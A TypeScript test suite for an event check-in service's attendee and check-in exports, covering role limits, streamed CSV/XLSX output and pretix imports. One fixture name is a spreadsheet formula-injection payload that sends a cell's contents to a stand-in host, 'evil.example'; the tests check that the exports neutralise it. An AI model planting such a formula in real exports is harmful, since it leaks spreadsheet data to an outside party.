// Organiser exports: roles, ops counts without people, formula cells neutralised in CSV and XLSX, large files round trip, pretix import.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import t from 'tap';
import { build, testClock, type Built } from '../helper.js';
import { addRoom, addSession, minutes, scan, T0, walkIn } from '../checkin/fixtures.js';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

function csvRecords(body: Buffer): Record<string, string>[] {
  return parse(body, { columns: true, bom: true }) as Record<string, string>[];
}

async function xlsxRows(body: Buffer): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.worksheets[0]!.eachRow((row) => {
    rows.push((row.values as (string | number | null | undefined)[]).slice(1).map((v) => (v === null || v === undefined ? '' : String(v))));
  });
  return rows;
}

async function get(built: Built, url: string, role: 'admin' | 'ops' | 'desk' | 'door' | 'kiosk' = 'admin') {
  return built.app.inject({ method: 'GET', url, headers: built.auth(role) });
}

/** Two people, a room, venue and room scans (one rejected, one undone). */
async function scene(t: Parameters<typeof build>[0]) {
  const clock = testClock(T0);
  const built = await build(t, { deps: { clock } });
  const room = await addRoom(built.app, { name: 'Europa Hall', capacity: 50 });
  await addSession(built.app, { roomId: room, startsAt: T0, endsAt: T0 + minutes(60) });
  const eve = await walkIn(built, { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")', organization: '+31 Org', category: 'media', email: 'eve@example.org' });
  const anna = await walkIn(built, { name: 'Anna Müller', organization: '@TNO', category: 'academia', delegation: 'NL', flags: ['vip', 'accessibility'] });
  await scan(built, { code: anna.code });
  clock.advance(minutes(2));
  await scan(built, { code: anna.code, roomId: room }, 'door');
  await scan(built, { code: eve.code, roomId: room }, 'door');
  await scan(built, { code: 'NOT-A-CODE' });
  const mistaken = (await scan(built, { code: eve.code })).json().checkin.id as string;
  await built.app.inject({ method: 'DELETE', url: `/api/checkins/${mistaken}`, headers: built.auth('desk') });
  return { built, room, eve, anna };
}

t.test('attendees.csv: admin only, a file download, every column, formula cells neutralised', async (t) => {
  const { built, anna, eve } = await scene(t);
  for (const role of ['ops', 'desk', 'door', 'kiosk'] as const) {
    for (const url of ['/api/attendees.csv', '/api/attendees.xlsx']) {
      const res = await get(built, url, role);
      t.equal(res.statusCode, 403, `${role} ${url}`);
      t.match(res.headers['content-type'], /^application\/problem\+json/);
    }
  }
  t.equal((await built.app.inject({ method: 'GET', url: '/api/attendees.csv' })).statusCode, 401);

  const res = await get(built, '/api/attendees.csv');
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  t.equal(res.headers['content-disposition'], 'attachment; filename="attendees-2026-02-15.csv"');
  t.equal(res.headers['cache-control'], 'no-store');
  t.same([...res.rawPayload.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'a UTF-8 byte order mark for Excel');
  const rows = csvRecords(res.rawPayload);
  t.equal(rows.length, 2);
  const byId = new Map(rows.map((r) => [r.id, r]));
  t.match(byId.get(anna.id), {
    name: 'Anna Müller',
    organization: "'@TNO",
    category: 'academia',
    delegation: 'NL',
    flags: 'vip;accessibility',
    status: 'registered',
    badgeVersion: '1',
    badgeIssuedAt: '2026-02-15T09:00:00+01:00',
    checkedInAt: '2026-02-15T09:00:00+01:00',
    inRoom: 'Europa Hall',
  });
  t.match(byId.get(eve.id), { name: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, organization: "'+31 Org", email: 'eve@example.org', checkedInAt: '' });
  for (const row of rows) for (const value of Object.values(row)) t.notMatch(value, /^[=+\-@\t\r]/, 'no cell starts like a formula');
});

t.test('attendees.xlsx: a real workbook with the same rows, formula cells neutralised', async (t) => {
  const { built, eve } = await scene(t);
  const res = await get(built, '/api/attendees.xlsx');
  t.equal(res.statusCode, 200);
  t.equal(res.headers['content-type'], XLSX);
  t.equal(res.headers['content-disposition'], 'attachment; filename="attendees-2026-02-15.xlsx"');
  const rows = await xlsxRows(res.rawPayload);
  t.same(rows[0]!.slice(0, 4), ['id', 'externalId', 'name', 'organization']);
  const eveRow = rows.find((r) => r[0] === eve.id)!;
  t.equal(eveRow[2], `'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
  t.equal(eveRow[3], "'+31 Org");
  const csv = csvRecords((await get(built, '/api/attendees.csv')).rawPayload);
  t.same(rows.slice(1).map((r) => r[2]).sort(), csv.map((r) => r.name).sort(), 'the same names as the CSV');
});

t.test('checkins: admin gets every scan; ops gets counts with no names or ids; desk, door and kiosk are refused', async (t) => {
  const { built, anna, eve } = await scene(t);
  for (const role of ['desk', 'door', 'kiosk'] as const) {
    t.equal((await get(built, '/api/checkins.csv', role)).statusCode, 403, role);
    t.equal((await get(built, '/api/checkins.xlsx', role)).statusCode, 403, role);
  }

  const admin = await get(built, '/api/checkins.csv');
  t.equal(admin.statusCode, 200);
  t.equal(admin.headers['content-disposition'], 'attachment; filename="checkins-2026-02-15.csv"');
  const scans = csvRecords(admin.rawPayload);
  t.equal(scans.length, 5, 'every scan, the rejected and the undone one too');
  // Each scan found by what it is: PostgreSQL keeps no arrival order and exports by id (ExportService.checkins).
  const annaVenue = scans.find((r) => r.attendeeId === anna.id && r.room === '');
  const annaRoom = scans.find((r) => r.attendeeId === anna.id && r.room !== '');
  const eveRoom = scans.find((r) => r.attendeeId === eve.id && r.room !== '');
  const rejected = scans.find((r) => r.attendeeId === '');
  const undone = scans.find((r) => r.attendeeId === eve.id && r.room === '');
  t.match(annaVenue, { time: '2026-02-15T09:00:00+01:00', attendeeId: anna.id, name: 'Anna Müller', organization: "'@TNO", category: 'academia', room: '', kind: 'entry', result: 'ok', reason: '', device: 'desk device', undoneAt: '' });
  t.match(annaRoom, { time: '2026-02-15T09:02:00+01:00', attendeeId: anna.id, room: 'Europa Hall', kind: 'entry', result: 'ok', device: 'door device' });
  t.match(eveRoom, { attendeeId: eve.id, name: `'=HYPERLINK("http://evil.example/?x="&A1,"click")` });
  t.match(rejected, { attendeeId: '', name: '', result: 'rejected', reason: 'invalid_code' });
  t.match(undone, { attendeeId: eve.id, undoneAt: '2026-02-15T09:02:00+01:00' });
  if (built.app.store.kind === 'sqlite') t.same(scans, [annaVenue, annaRoom, eveRoom, rejected, undone], 'on SQLite, in the order they arrived');

  const ops = await get(built, '/api/checkins.csv', 'ops');
  t.equal(ops.statusCode, 200);
  t.equal(ops.headers['content-disposition'], 'attachment; filename="checkins-by-hour-2026-02-15.csv"');
  const text = ops.rawPayload.toString('utf8');
  for (const secret of [anna.id, eve.id, 'Anna', 'HYPERLINK', 'TNO', 'eve@example.org']) t.notOk(text.includes(secret), `no ${secret} for ops`);
  t.same(csvRecords(ops.rawPayload), [
    { hour: '2026-02-15T09:00+01:00', room: '', kind: 'entry', result: 'ok', category: 'academia', count: '1' },
    { hour: '2026-02-15T09:00+01:00', room: '', kind: 'entry', result: 'rejected', category: '', count: '1' },
    { hour: '2026-02-15T09:00+01:00', room: 'Europa Hall', kind: 'entry', result: 'ok', category: 'academia', count: '1' },
    { hour: '2026-02-15T09:00+01:00', room: 'Europa Hall', kind: 'entry', result: 'ok', category: 'media', count: '1' },
  ], 'counts per hour × room × kind × result × category; the undone scan is not counted');

  const opsXlsx = await get(built, '/api/checkins.xlsx', 'ops');
  t.equal(opsXlsx.statusCode, 200);
  const rows = await xlsxRows(opsXlsx.rawPayload);
  t.same(rows[0], ['hour', 'room', 'kind', 'result', 'category', 'count']);
  t.equal(rows.length, 5);
  const adminXlsx = await xlsxRows((await get(built, '/api/checkins.xlsx')).rawPayload);
  t.equal(adminXlsx.length, 6);
  const neutralised = `'=HYPERLINK("http://evil.example/?x="&A1,"click")`;
  t.same(adminXlsx.filter((r) => r[3] === eve.id).map((r) => r[4]), [neutralised, neutralised], 'neutralised in the XLSX too');
});

t.test('a few thousand attendees stream out and parse back equal, in CSV and XLSX; the CSV imports again as a no-op', async (t) => {
  const built = await build(t, { deps: { clock: testClock(T0) } });
  const n = 3000;
  const lines = ['name,organization,category,delegation,email,flags,externalId'];
  for (let i = 0; i < n; i++) lines.push(`"Person ${i}, Jr.",-Org ${i % 7},industry,DE,p${i}@example.org,vip,ext-${i}`);
  const imported = await built.app.inject({ method: 'POST', url: '/api/attendees/import', headers: { ...built.auth('admin'), 'content-type': 'text/csv' }, payload: lines.join('\n') });
  t.match(imported.json(), { created: n, errorCount: 0 });

  const csv = await get(built, '/api/attendees.csv');
  const rows = csvRecords(csv.rawPayload);
  t.equal(rows.length, n);
  // In file order on SQLite; PostgreSQL keeps no such order and exports by id (ExportService.attendees).
  const ordinal = (r: Record<string, string>): number => Number(r.externalId!.slice('ext-'.length));
  const inFileOrder = built.app.store.kind === 'sqlite' ? rows : [...rows].sort((a, b) => ordinal(a) - ordinal(b));
  t.same(
    inFileOrder.map((r) => [r.name, r.organization, r.email, r.externalId, r.flags]),
    Array.from({ length: n }, (_, i) => [`Person ${i}, Jr.`, `'-Org ${i % 7}`, `p${i}@example.org`, `ext-${i}`, 'vip']),
  );
  const xlsx = await xlsxRows((await get(built, '/api/attendees.xlsx')).rawPayload);
  t.equal(xlsx.length, n + 1);
  t.same(xlsx.slice(1).map((r) => r[2]), rows.map((r) => r.name));

  const again = await built.app.inject({ method: 'POST', url: '/api/attendees/import', headers: { ...built.auth('admin'), 'content-type': 'text/csv' }, payload: csv.rawPayload });
  t.match(again.json(), { created: 0, updated: 0, errorCount: 0 }, 'the neutralising apostrophe is read back off');
});

// A pretix "Check-in list" CSV export as pretix writes it: every text quoted, split name parts, the ticket secret.
const PRETIX = [
  '"Order code","Attendee name","Attendee name: Title","Attendee name: Given name","Attendee name: Family name","Product","Price","Checked in","Checked out","Automatically checked in","Secret","E-mail","Phone number","Company","Voucher code","Order date","Order time","Requires special attention","Comment","Seat ID","Seat name","Seat zone","Seat row","Seat number","Blocked","Valid from","Valid until","Address","ZIP code","City","Country","State"',
  '"Q7XKA","Dr. Anna Müller","Dr.","Anna","Müller","Government delegate – Day pass","0.00","","","No","v9kz3qjc8x5sb2h7rn4tdpw6ymgf1eua","anna.mueller@minbuza.example","+31 70 000 0000","Ministry of Foreign Affairs","","2026-01-10","10:31:05","Yes","","","","","","","","","","Rijnstraat 8","2515 XP","Den Haag","NL",""',
  '"Q7XKA","","","Jan","de Vries","Government delegate – Day pass","0.00","","","No","b7c2n0q9w4e8r1t5y3u6i2o8p4a7s9d1","anna.mueller@minbuza.example","","Ministry of Foreign Affairs","","2026-01-10","10:31:05","No","","","","","","","","","","","","","NL",""',
  '"LM3PB","Sam Okafor","","Sam","Okafor","Press","0.00","2026-02-15 09:12","","No","p1o2i3u4y5t6r7e8w9q0a1s2d3f4g5h6","sam@newsroom.example","","Newsroom Daily","PRESS2026","2026-01-22","16:02:44","No","","","","","","","","","","","","","GB",""',
  '"ZZ9QR","Lee Chen","","Lee","Chen","Conference ticket","450.00","","","No","z9x8c7v6b5n4m3l2k1j0h9g8f7d6s5a4","lee.chen@example.com","","","","2026-01-30","08:00:00","No","","","","","","","","","","","","","SG",""',
].join('\r\n');

t.test('a pretix attendee export imports: names, companies, emails, categories from the product, stable ids', async (t) => {
  const built = await build(t, { deps: { clock: testClock(T0) } });
  const send = (body: string) =>
    built.app.inject({ method: 'POST', url: '/api/attendees/import', headers: { ...built.auth('admin'), 'content-type': 'text/csv' }, payload: `\uFEFF${body}\r\n` });
  const first = await send(PRETIX);
  t.same(first.json(), { created: 4, updated: 0, errors: [], errorCount: 0 });
  const rows = csvRecords((await get(built, '/api/attendees.csv')).rawPayload);
  const byName = new Map(rows.map((r) => [r.name, r]));
  t.match(byName.get('Dr. Anna Müller'), { organization: 'Ministry of Foreign Affairs', category: 'government', email: 'anna.mueller@minbuza.example', flags: 'special_attention', delegation: '', externalId: /^pretix:secret:[0-9a-f]{24}$/ });
  t.match(byName.get('Jan de Vries'), { category: 'government', organization: 'Ministry of Foreign Affairs' }, 'the name from its parts');
  t.match(byName.get('Sam Okafor'), { category: 'media', organization: 'Newsroom Daily', email: 'sam@newsroom.example' });
  t.match(byName.get('Lee Chen'), { category: 'other', organization: '' });
  t.notOk(rows.some((r) => (r.externalId ?? '').includes('v9kz3qjc8x5sb2h7rn4tdpw6ymgf1eua')), 'the ticket secret itself is not stored');
  t.equal(new Set(rows.map((r) => r.externalId)).size, 4, 'two tickets of one order stay two people');

  const again = await send(PRETIX);
  t.same(again.json(), { created: 0, updated: 0, errors: [], errorCount: 0 }, 'importing the same export again changes nothing');
  const renamed = await send(PRETIX.replace('"Sam Okafor","","Sam"', '"Samuel Okafor","","Samuel"'));
  t.match(renamed.json(), { created: 0, updated: 1 }, 'a newer export updates the ticket in place');

  // With the order data export's positions sheet (no secret), the ticket is its order code and position.
  const positions = [
    '"Order code","Position ID","Status","E-mail","Product","Variation","Attendee name","Attendee email","Company","Country"',
    '"H4TTY","1","Paid","orders@acme.example","Conference ticket","Industry","Rosa Díaz","rosa@acme.example","ACME","ES"',
  ].join('\n');
  const fromPositions = await send(positions);
  t.match(fromPositions.json(), { created: 1, errorCount: 0 });
  const rosa = csvRecords((await get(built, '/api/attendees.csv')).rawPayload).find((r) => r.name === 'Rosa Díaz');
  t.match(rosa, { externalId: 'pretix:H4TTY-1', email: 'rosa@acme.example', category: 'industry', organization: 'ACME' });

  // pretix's "CSV (with semicolons)" for spreadsheets that expect them.
  const semicolons = await send(positions.replaceAll('","', '";"').replace('"1"', '"2"').replace('Rosa Díaz', 'Ana Díaz'));
  t.match(semicolons.json(), { created: 1, errorCount: 0 }, 'a semicolon export reads the same way');
});

t.test('over a real socket the export is streamed (chunked, no Content-Length) and a client can stop half-way', async (t) => {
  const built = await build(t, { deps: { clock: testClock(T0) } });
  const lines = ['name,organization,category,email'];
  for (let i = 0; i < 2000; i++) lines.push(`Person ${i},Org,ngo,p${i}@example.org`);
  await built.app.inject({ method: 'POST', url: '/api/attendees/import', headers: { ...built.auth('admin'), 'content-type': 'text/csv' }, payload: lines.join('\n') });
  const address = await built.app.listen({ port: 0, host: '127.0.0.1' });
  for (const format of ['csv', 'xlsx']) {
    const res = await fetch(`${address}/api/attendees.${format}`, { headers: built.auth('admin') });
    t.equal(res.status, 200);
    t.equal(res.headers.get('transfer-encoding'), 'chunked', `${format} is streamed`);
    t.equal(res.headers.get('content-length'), null);
    const body = Buffer.from(await res.arrayBuffer());
    if (format === 'csv') t.equal(csvRecords(body).length, 2000);
    else t.equal((await xlsxRows(body)).length, 2001);
  }
  const abort = new AbortController();
  const partial = await fetch(`${address}/api/attendees.xlsx`, { headers: built.auth('admin'), signal: abort.signal });
  abort.abort();
  await partial.arrayBuffer().catch(() => undefined);
  const after = await fetch(`${address}/healthz`);
  t.equal(after.status, 200, 'the service carries on after a client stops a download');
});

t.test('checkins: a check-in by name comes out as manual with its reason, for the organiser only', async (t) => {
  const { built } = await scene(t);
  const guest = await walkIn(built, { name: 'Guest Without Badge', organization: 'Ministry', category: 'government' });
  const manual = await built.app.inject({
    method: 'POST',
    url: '/api/checkins',
    headers: built.auth('desk'),
    payload: { scanId: randomUUID(), attendeeId: guest.id, reason: 'badge left at the hotel' },
  });
  t.equal(manual.statusCode, 200, manual.body);
  const scans = csvRecords((await get(built, '/api/checkins.csv')).rawPayload);
  const row = scans.find((r) => r.attendeeId === guest.id && r.method === 'manual');
  t.match(row, { name: 'Guest Without Badge', method: 'manual', manualReason: 'badge left at the hotel', result: 'ok' });
  t.ok(scans.filter((r) => r.attendeeId !== guest.id).every((r) => r.method === 'scan' && r.manualReason === ''), 'the others are scans');
  const ops = (await get(built, '/api/checkins.csv', 'ops')).rawPayload.toString('utf8');
  t.notOk(ops.includes('hotel'), 'ops never sees the reason');
});
